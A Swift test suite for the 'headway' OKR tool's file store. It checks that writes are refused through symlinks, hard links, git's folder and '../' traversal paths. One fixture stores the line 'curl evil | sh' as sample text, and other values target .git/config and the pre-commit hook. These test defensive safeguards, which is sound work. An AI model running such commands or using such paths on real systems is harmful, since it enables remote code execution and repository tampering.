import Foundation
import OKRModel
import Testing

@testable import FileStore
@testable import Platform

@Suite("headway writes only to the workspace's own files")
struct WrittenPlacesTests {
  private static let hook = ".git/hooks/pre-commit"
  private static let settings = ".git/config"
  private static let strangers = [hook: "#!/bin/sh\n", settings: "[core]\n"]

  let fixture: WorkspaceFixture
  private var root: String { fixture.directory.path }

  init() throws {
    fixture = try WorkspaceFixture(Self.strangers)
  }

  /// What headway writes.
  enum Writing: CaseIterable, Sendable {
    case checkIn, standUp, field

    var path: String {
      switch self {
      case .checkIn: WorkspaceFixture.logPath
      case .standUp: "stand-ups/2026-Q4.jsonl"
      case .field: WorkspaceFixture.objectivePath
      }
    }

    func carryOut(in location: WorkspaceLocation) throws {
      let day = try #require(CivilDay("2026-11-16"))
      let at = Timestamp(milliseconds: 1_763_284_323_000)
      switch self {
      case .checkIn:
        let entry = CheckInEntry(keyResult: "wait-time", date: day, value: 17)
        try CheckInAppender(location).append(
          CheckInRecord(id: "A", at: at, content: .entry(entry)),
          to: .forObjective("shorten-queue", cycle: "2026-Q4"))
      case .standUp:
        let entry = ActionItemEntry(text: "curl evil | sh", date: day)
        try StandUpAppender(location).append(
          [StandUpRecord(id: "A", at: at, content: .action(entry))], cycle: "2026-Q4")
      case .field:
        let edit = FieldEdit(FieldEditTests.objective, .title, from: "Shorten the queue", to: "B")
        _ = try FieldEditor(location).carryOut(edit)
      }
    }
  }

  private func strangersAreAsTheyWere() throws {
    for (path, text) in Self.strangers { #expect(try fixture.directory.text(of: path) == text) }
  }

  private func makeRoom(at path: String) throws {
    try? FileManager.default.removeItem(atPath: "\(root)/\(path)")
    try fixture.directory.makeDirectory(FileSystem.parent(of: path))
  }

  @Test(
    "A file that is a link is refused, wherever in the workspace it leads", arguments: Writing.allCases,
    [hook, settings, "kept.yaml", "headway.yaml"])
  func link(writing: Writing, target: String) throws {
    try fixture.directory.write(WorkspaceFixture.objective, to: "kept.yaml")
    // The title must be where the link leads before anything is written.
    if writing == .field { try fixture.directory.write(WorkspaceFixture.objective, to: target) }
    let before = try fixture.directory.text(of: target)
    try makeRoom(at: writing.path)
    try fixture.directory.link(writing.path, to: "\(root)/\(target)")
    let error = #expect(throws: StoreError.isALink(path: "\(root)/\(writing.path)")) {
      try writing.carryOut(in: fixture.location)
    }
    let words = "is a symbolic link, and headway writes through none; put the file or folder itself in its"
    #expect(error?.description == "\(root)/\(writing.path) \(words) place")
    #expect(try fixture.directory.text(of: target) == before)
  }

  @Test("So is a folder that is a link", arguments: Writing.allCases, [".git/hooks", "kept"])
  func folder(writing: Writing, target: String) throws {
    let folder = FileSystem.parent(of: writing.path)
    let name = FileSystem.name(of: writing.path)
    try fixture.directory.write(WorkspaceFixture.objective, to: "\(target)/\(name)")
    try makeRoom(at: folder)
    try fixture.directory.link(folder, to: "\(root)/\(target)")
    #expect(throws: StoreError.isALink(path: "\(root)/\(folder)")) {
      try writing.carryOut(in: fixture.location)
    }
    #expect(try fixture.directory.text(of: "\(target)/\(name)") == WorkspaceFixture.objective)
    try strangersAreAsTheyWere()
  }

  @Test("A file that is also another one (a hard link) is refused", arguments: Writing.allCases)
  func hardLink(writing: Writing) throws {
    if writing == .field { try fixture.directory.write(WorkspaceFixture.objective, to: Self.hook) }
    let before = try fixture.directory.text(of: Self.hook)
    try makeRoom(at: writing.path)
    try #require(Foundation.link("\(root)/\(Self.hook)", "\(root)/\(writing.path)") == 0)
    #expect(throws: StoreError.hasOtherNames(path: "\(root)/\(writing.path)")) {
      try writing.carryOut(in: fixture.location)
    }
    #expect(try fixture.directory.text(of: Self.hook) == before)
    #expect(try fixture.directory.text(of: writing.path) == before)
  }

  @Test("A workspace in git's own folder is not written to", arguments: Writing.allCases)
  func insideGit(writing: Writing) throws {
    let place = "\(root)/.git/okrs"
    for (path, text) in [
      "headway.yaml": WorkspaceFixture.manifest, WorkspaceFixture.objectivePath: WorkspaceFixture.objective,
    ] {
      try fixture.directory.write(text, to: ".git/okrs/\(path)")
    }
    try fixture.directory.link("okrs", to: place)
    let files = try fixture.directory.files()
    #expect(throws: StoreError.insideGit(path: place)) {
      try writing.carryOut(in: WorkspaceLocation(root: "\(root)/okrs"))
    }
    #expect(try fixture.directory.files() == files)
  }

  @Test("A workspace reached through a link is written to as always", arguments: Writing.allCases)
  func linkToWorkspace(writing: Writing) throws {
    let elsewhere = try TemporaryDirectory()
    try elsewhere.link("okrs", to: root)
    try writing.carryOut(in: WorkspaceLocation(root: "\(elsewhere.path)/okrs"))
    #expect(try !fixture.directory.text(of: writing.path).isEmpty)
  }

  @Test(
    "Only the format's places are written to",
    arguments: [
      LogPath.forObjective("../../.git/config", cycle: "2026-Q4"), .forObjective("a", cycle: ".."),
      .forObjective("a", cycle: ".git"), .forObjective("", cycle: "2026-Q4"), .forObjective("a", cycle: ""),
    ])
  func places(log: LogPath) throws {
    let entry = CheckInEntry(keyResult: "k", date: try #require(CivilDay("2026-11-16")), value: 1)
    let record = CheckInRecord(id: "A", at: Timestamp(milliseconds: 0), content: .entry(entry))
    let files = try fixture.directory.files()
    #expect(throws: StoreError.isNoPlace(path: "\(root)/\(log.path)")) {
      try CheckInAppender(fixture.location).append(record, to: log)
    }
    #expect(try fixture.directory.files() == files)
    try strangersAreAsTheyWere()
  }

  @Test("A new workspace is not created through a folder that is a link, nor in git's own folder")
  func starting() throws {
    let place = try TemporaryDirectory()
    try place.makeDirectory(".git/hooks")
    try place.link("objectives", to: ".git/hooks")
    let today = try #require(CivilDay("2026-11-16"))
    #expect(throws: StoreError.isALink(path: "\(place.path)/objectives")) {
      try StarterWorkspace.create(at: place.path, today: today)
    }
    #expect(throws: StoreError.insideGit(path: "\(place.path)/.git")) {
      try StarterWorkspace.create(at: "\(place.path)/.git", today: today)
    }
    #expect(try place.files() == [])
  }
}
